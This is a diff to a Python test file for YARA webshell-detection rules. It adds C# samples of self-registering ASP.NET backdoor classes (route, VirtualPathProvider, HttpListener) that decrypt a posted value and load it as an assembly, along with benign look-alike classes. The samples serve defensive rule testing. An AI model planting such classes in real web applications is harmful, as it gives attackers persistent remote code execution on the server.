@@ -18,6 +18,12 @@ behaviour analysis in ``App_Code``; the same classes anywhere else in a web fold
 rule of ours named them. ``EXT_WEBSHELL_Managed_Module_Backdoor`` in ``data/rules/module_backdoors.yar`` names
 such a class wherever it lies; request-logging, rewriting, authentication and image-converting modules stay
 silent.
+
+Godzilla's class backdoors of the collection (a route, a VirtualPathProvider and an HttpListener registered by
+the class's own static constructor, then a posted value decrypted and loaded as an assembly) were likewise
+named in ``App_Code`` only; ``EXT_WEBSHELL_Self_Registering_Class_Loader`` (same file) names such a class
+anywhere. A plugin framework's embedded-resource provider, an App_Start route table and a health-check
+listener stay silent.
 """
 
 from __future__ import annotations
@@ -209,9 +215,92 @@ MODULES_ORDINARY: list[Page] = [
     ),
 ]
 
+_CLASS_RULE = "EXT_WEBSHELL_Self_Registering_Class_Loader"
+
+_LOAD_POSTED = (
+    '      byte[] d = Convert.FromBase64String(HttpContext.Current.Request.Form["probe"]);\n'
+    "      var k = new byte[16];\n"
+    "      d = System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length);\n"
+    "      var asm = (System.Reflection.Assembly)typeof(System.Reflection.Assembly)"
+    '.GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d });\n'
+    '      asm.CreateInstance("Probe").Equals(d);\n'
+)
+
+CLASS_LOADERS: list[Page] = [
+    (
+        "route-registered-by-static-constructor",
+        ".cs",
+        "using System;\nusing System.Web;\nusing System.Web.Routing;\n"
+        "public class R : RouteBase {\n"
+        "  static R() { try { RouteTable.Routes.Insert(0, new R()); } catch (Exception) { } }\n"
+        "  public override RouteData GetRouteData(HttpContextBase c) {\n    try {\n"
+        + _LOAD_POSTED
+        + "    } catch (Exception) { }\n    return null;\n  }\n"
+        "  public override VirtualPathData GetVirtualPath(RequestContext r, RouteValueDictionary v) { return null; }\n}\n",
+    ),
+    (
+        "path-provider-registered-by-static-constructor",
+        ".cs",
+        "using System;\nusing System.Web;\nusing System.Web.Hosting;\nusing System.Reflection;\n"
+        "public class P : VirtualPathProvider {\n"
+        "  static P() {\n"
+        '    typeof(HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", '
+        "BindingFlags.NonPublic | BindingFlags.Static).Invoke(null, new object[] { new P() });\n  }\n"
+        "  public override string GetCacheKey(string virtualPath) {\n    try {\n"
+        + _LOAD_POSTED
+        + "    } catch (Exception) { }\n    return Previous.GetCacheKey(virtualPath);\n  }\n}\n",
+    ),
+    (
+        "listener-started-by-static-constructor",
+        ".cs",
+        "using System;\nusing System.Net;\nusing System.IO;\nusing System.Web;\n"
+        "public class L {\n"
+        '  static L() { var h = new HttpListener(); h.Prefixes.Add("http://*:80/probe/"); h.Start(); }\n'
+        "  void Serve(HttpListenerContext ctx) {\n"
+        "    var RequestFrom = HttpUtility.ParseQueryString(new StreamReader(ctx.Request.InputStream).ReadToEnd());\n"
+        '    byte[] d = Convert.FromBase64String(RequestFrom["probe"]);\n'
+        '    System.Reflection.Assembly.Load(Convert.FromBase64String(RequestFrom["probe"])).CreateInstance("Probe");\n'
+        "  }\n}\n",
+    ),
+]
+
+CLASSES_ORDINARY: list[Page] = [
+    (
+        "plugin-embedded-resource-provider",
+        ".cs",
+        "using System;\nusing System.Web;\nusing System.Web.Hosting;\n"
+        "public class EmbeddedFiles : VirtualPathProvider {\n"
+        "  static EmbeddedFiles() { HostingEnvironment.RegisterVirtualPathProvider(new EmbeddedFiles()); }\n"
+        "  public static void LoadPlugins() {\n"
+        "    foreach (var name in System.Configuration.ConfigurationManager.AppSettings[\"plugins\"].Split(','))\n"
+        "      System.Reflection.Assembly.Load(name);\n"
+        '    string lang = HttpContext.Current.Request.QueryString["lang"];\n  }\n}\n',
+    ),
+    (
+        "app-start-route-table",
+        ".cs",
+        "using System.Web.Mvc;\nusing System.Web.Routing;\n"
+        "public class RouteConfig {\n"
+        "  public static void RegisterRoutes(RouteCollection routes) {\n"
+        '    routes.IgnoreRoute("{resource}.axd/{*pathInfo}");\n'
+        '    routes.MapRoute("Default", "{controller}/{action}/{id}", new { controller = "Home", action = "Index" });\n'
+        "  }\n}\n",
+    ),
+    (
+        "health-check-listener",
+        ".cs",
+        "using System;\nusing System.Net;\n"
+        "public static class Health {\n"
+        '  static Health() { var h = new HttpListener(); h.Prefixes.Add("http://localhost:8099/health/"); h.Start(); }\n'
+        '  static void Answer(HttpListenerContext c) { var b = System.Text.Encoding.UTF8.GetBytes("ok " + c.Request.Url); '
+        "c.Response.OutputStream.Write(b, 0, b.Length); c.Response.Close(); }\n}\n",
+    ),
+]
+
 CASES: list[RuleCase] = [
     (_RULE, CREDENTIAL_LOGGERS, LOGON_PAGES_ORDINARY),
     (_MODULE_RULE, MODULE_BACKDOORS, MODULES_ORDINARY),
+    (_CLASS_RULE, CLASS_LOADERS, CLASSES_ORDINARY),
 ]
 
 (
